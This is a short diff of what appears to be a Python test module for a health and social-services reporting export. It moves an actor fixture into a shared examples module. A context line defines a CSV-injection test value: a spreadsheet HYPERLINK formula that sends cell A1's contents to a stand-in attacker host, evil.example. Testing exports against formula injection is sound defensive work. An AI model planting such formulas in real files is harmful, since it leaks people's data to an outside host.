@@ -15,16 +15,8 @@ import csv
 import io
 from typing import Any
 
-from contracts import OrgType, Role
-from services.runtime.kernel.actor import Actor
+from tests.reporting_examples import SOCIAL_MANAGER
 from tests.support import HEALTH, SOCIAL
-
-SOCIAL_MANAGER = Actor(
-    hsa_id="SE2120000001-S009",
-    org_id=SOCIAL.org_id,
-    org_type=OrgType.SOCIAL_SERVICES,
-    role=Role.UNIT_MANAGER,
-)
 
 FORMULAS = {
     "what_happened": '=HYPERLINK("https://evil.example/?d="&A1;"Öppna rutinen")',
